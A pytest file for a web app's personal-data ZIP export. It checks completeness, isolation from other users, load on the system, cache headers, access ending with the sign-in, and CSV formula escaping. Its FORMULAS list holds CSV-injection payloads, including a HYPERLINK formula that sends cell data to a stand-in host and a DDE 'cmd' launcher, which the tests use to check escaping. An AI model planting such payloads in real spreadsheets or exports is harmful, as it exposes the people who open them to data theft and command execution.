"""J04: one's own data, whole and nobody else's, however much it is and however slowly it is read."""

from __future__ import annotations

import csv
import http.client
import io
import json
import threading
import time
import zipfile
from dataclasses import dataclass
from statistics import median

import psycopg
import pytest

from tests.commands.raw import Raw
from tests.faults.cases import case
from tests.faults.product import Person, Product, Stage
from tests.faults.sizes import sizes
from tests.faults.timing import timed
from tests.faults.verdicts import Floor, Verdicts
from tests.own_rows import ORACLE

# What the page of a small project takes on a quiet machine, in ms.
QUIET_PAGE = 30.0
# What a spreadsheet would take for a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
DOOR = "/profile/data/"


@pytest.fixture(scope="module")
def stage(product: Product) -> Stage:
    """Two people whose data is asked for again and again, and two whose sign-in ends."""
    return product.settle(people=4)


@dataclass(frozen=True)
class Kept:
    rows: int


# Much of one person, and a little of another: what each says can be told apart.
_FILL = """
from sessions_app.db.rls import acting_as, acting_as_system
from sessions_app.ledger import Actor
from sessions_app.models import TrackedActivity, User
from sessions_app.services import items, messages
mine, others = (User.objects.get(pk=pk) for pk in {people})
for user, word in ((mine, "beacon"), (others, "zugunruhe")):
    with acting_as(user.id):
        messages.post_message("{project}", Actor.person(user), text=f"I say {{word}}")
with acting_as(mine.id):
    for text in {formulas}:
        messages.post_message("{project}", Actor.person(mine), text=text + " beacon")
        items.add_item("{project}", Actor.person(mine), title=f"{{text}} beacon".strip())
with acting_as_system(["{project}"]):
    TrackedActivity.objects.bulk_create(
        [
            TrackedActivity(
                project_id="{project}", user_id=mine.id, kind="=k", version=1, metadata={{"number": number}}
            )
            for number in range({rows})
        ],
        batch_size=5000,
    )
print("FILLED")
"""


@case("J04")
@sizes(Kept(20_000), Kept(300_000))
def test_ones_own_data_is_whole_and_holds_up_nobody(
    size: Kept, product: Product, stage: Stage, verdicts: Verdicts
) -> None:
    """All the oracle has of one person and nothing of another, while the other goes on working."""
    mine, other, *_ = stage.people
    script = _FILL.format(
        people=[mine.id, other.id], project=stage.projects[0], rows=size.rows, formulas=FORMULAS
    )
    done = product.manage("shell", "-c", script)
    assert "FILLED" in done.stdout, done.stdout + done.stderr
    page = stage.path("")
    before = [timed(other, page) for _ in range(20)]

    answers: list[tuple[http.client.HTTPMessage, bytes]] = []
    started = time.monotonic()
    reading = threading.Thread(target=lambda: answers.append(download(mine)))
    reading.start()
    during, oldest = [], [0.0]
    with product.oracle("postgres") as oracle:
        while reading.is_alive():
            during.append(timed(other, page))
            oldest.append(oldest_transaction(oracle))
    reading.join()
    took = time.monotonic() - started
    ((headers, content),) = answers

    verdicts.none("tables that are not what the oracle has", differing(product, mine, content))
    files = unzipped(content)
    told = {
        (table, row[field].strip())
        for table, field in (("messages", "text"), ("items", "added_title"))
        for row in json.loads(files[f"{table}.json"])
    }
    said = {(table, f"{text} beacon".strip()) for table in ("messages", "items") for text in FORMULAS}
    verdicts.none("texts of one's own that are not told", (said | {("messages", "I say beacon")}) - told)
    everything = "".join(files.values())
    verdicts.none("words of another", [word for word in ("zugunruhe", other.id) if word in everything])
    verdicts.none("cells a spreadsheet takes for a formula", formulas(content))
    kept = headers["Cache-Control"]
    verdicts.holds("kept by no cache on the way", "no-store" in kept, kept)
    # Two things share two processors then; a page that waited for the download would take all of its time.
    verdicts.at_most(
        "another's page meanwhile, median",
        median(during or before),
        500,
        "ms",
        floor=Floor(median(before), QUIET_PAGE),
    )
    verdicts.at_most("oldest transaction meanwhile", max(oldest), 2, "s")
    verdicts.holds("export", True, f"{size.rows:,} rows in {took:.1f} s, {len(content) / 1e6:,.1f} MB")


@case("J04")
def test_a_download_that_nobody_reads_holds_nothing(
    product: Product, stage: Stage, verdicts: Verdicts
) -> None:
    """Twenty of them at once, more than the pool has connections: each asked for and left lying."""
    mine, other, *_ = stage.people
    lying = [
        Raw(mine.port).send(
            f"GET {DOOR} HTTP/1.1", f"Host: 127.0.0.1:{mine.port}", f"Cookie: {mine.cookie_header()}", ""
        )
        for _ in range(20)
    ]
    try:
        statuses = [other.get(stage.path(""))[0] for _ in range(20)]
        until = time.monotonic() + 5
        with product.oracle("postgres") as oracle:
            while (age := oldest_transaction(oracle)) > 1 and time.monotonic() < until:
                time.sleep(0.1)
        verdicts.only("another's pages meanwhile", statuses, [200])
        verdicts.at_most("oldest transaction of ours", age, 1, "s")
    finally:
        for each in lying:
            each.tcp.close()


@case("J04")
def test_the_way_to_it_ends_with_the_sign_in(product: Product, stage: Stage, verdicts: Verdicts) -> None:
    """No file lies about and no address opens one: it is made for whoever is signed in, while they are."""
    *_, mine, other = stage.people
    assert mine.get("/profile/")[0] == 200
    left_open = mine.at(mine.port)
    verdicts.only("without a sign-in", [status_of(Person(mine.id, {}, mine.port))], [302])
    whose = json.loads(unzipped(download(other)[1])["profile.json"])
    verdicts.holds("the same address gives another their own", [each["id"] for each in whose] == [other.id])
    assert mine.post("/account/logout/")[0] == 302
    verdicts.only("after signing out, in a tab left open", [status_of(left_open)], [302])
    product.manage("shell", "-c", _OVER.format(key=session_key(other)))
    verdicts.only("after the sign-in's time was over", [status_of(other)], [302])


_OVER = """
from datetime import timedelta
from django.contrib.sessions.models import Session
from sessions_app import clock
assert Session.objects.filter(pk="{key}").update(expire_date=clock.now() - timedelta(seconds=1))
"""


def session_key(person: Person) -> str:
    return next(value for name, value in person.cookies.items() if "session" in name)


def status_of(person: Person) -> int:
    """What the download's address answers; whoever is let in is not read to the end."""
    connection = http.client.HTTPConnection("127.0.0.1", person.port, timeout=20)
    connection.request("GET", DOOR, headers={"Cookie": person.cookie_header()})
    status = connection.getresponse().status
    connection.close()
    return status


def download(person: Person) -> tuple[http.client.HTTPMessage, bytes]:
    """The person's ZIP with the headers it came with."""
    connection = http.client.HTTPConnection("127.0.0.1", person.port, timeout=200)
    connection.request("GET", DOOR, headers={"Cookie": person.cookie_header()})
    answer = connection.getresponse()
    assert answer.status == 200, answer.status
    content = answer.read()
    connection.close()
    return answer.headers, content


def unzipped(content: bytes) -> dict[str, str]:
    """The ZIP's files by name, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name).decode() for name in archive.namelist()}


def differing(product: Product, person: Person, content: bytes) -> list[str]:
    """The tables whose rows are not the oracle's: lost, doubled or of somebody else."""
    files, wrong = unzipped(content), []
    for table, sql in ORACLE.items():
        expected = sorted(str(row[0]) for row in product.ask(sql, person.id))
        records = csv.DictReader(io.StringIO(files[f"{table}.csv"], ""))
        for found in (json.loads(files[f"{table}.json"]), records):
            if sorted(str(row["id"]) for row in found) != expected:
                wrong.append(table)
    return wrong


def formulas(content: bytes) -> list[str]:
    """The cells that begin as a formula does."""
    return [
        cell
        for name, text in unzipped(content).items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(text, ""))
        for cell in row
        if cell.startswith(FORMULA_STARTS)
    ]


def oldest_transaction(oracle: psycopg.Connection) -> float:
    """Seconds since the oldest transaction of ours began that is still open."""
    asking = """
        select coalesce(max(extract(epoch from clock_timestamp() - xact_start)), 0)::float
        from pg_stat_activity where usename = 'sessions_runtime'
    """
    return oracle.execute(asking).fetchone()[0]
